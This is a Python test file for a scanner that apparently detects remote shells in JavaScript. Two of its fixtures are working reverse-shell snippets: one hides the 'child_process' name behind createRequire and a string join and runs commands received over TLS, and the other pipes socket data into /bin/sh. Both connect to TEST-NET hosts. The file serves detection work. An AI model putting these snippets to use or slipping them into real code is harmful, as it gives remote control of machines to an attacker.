"""JavaScript: ``createRequire`` (from ``module``) gives an ES module a ``require`` of its own, which
loads modules by name as the global one does; a child process module loaded through it and fed what
a raw connection sends is a remote shell. Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_RELAY = """\
import { createRequire } from "node:module";
import tls from "node:tls";
const load = createRequire(import.meta.url);
const proc = load(["child", "process"].join("_"));
const link = tls.connect({ host: "198.51.100.44", port: 8883 });
link.on("data", (chunk) => {
  const job = JSON.parse(chunk.toString());
  proc.exec(job.cmd, (err, stdout) => link.write(stdout));
});
"""

_NAMESPACE_RELAY = """\
import * as mod from "module";
import net from "net";
const req = mod.createRequire(import.meta.url);
const { spawn } = req("child_process");
const c = net.createConnection(7070, "203.0.113.61");
c.on("data", (buf) => spawn("/bin/sh", ["-c", String(buf)]).stdout.pipe(c));
"""

_PLAIN_READER = """\
import { createRequire } from "node:module";
import net from "node:net";
const require = createRequire(import.meta.url);
const pkg = require("./package.json");
const c = net.connect(7070, "203.0.113.61");
c.on("data", (buf) => console.log(pkg.name, String(buf).trim()));
"""


def _errors(tmp_path: Path, script: str) -> set[str]:
    found = scan_errors(tmp_path, {"bin/relay.mjs": script, "bin/package.json": '{"name": "relay"}'})
    return {rule for rule, path, _ in found if path == "bin/relay.mjs"}


def test_a_child_process_module_loaded_by_create_require_running_received_data_is_a_remote_shell(
    tmp_path: Path,
) -> None:
    assert "REMOTE_SHELL" in _errors(tmp_path, _RELAY)


def test_create_require_reached_through_a_namespace_import_is_a_require(tmp_path: Path) -> None:
    assert "REMOTE_SHELL" in _errors(tmp_path, _NAMESPACE_RELAY)


def test_a_module_required_that_runs_nothing_stays_without_errors(tmp_path: Path) -> None:
    assert _errors(tmp_path, _PLAIN_READER) == set()
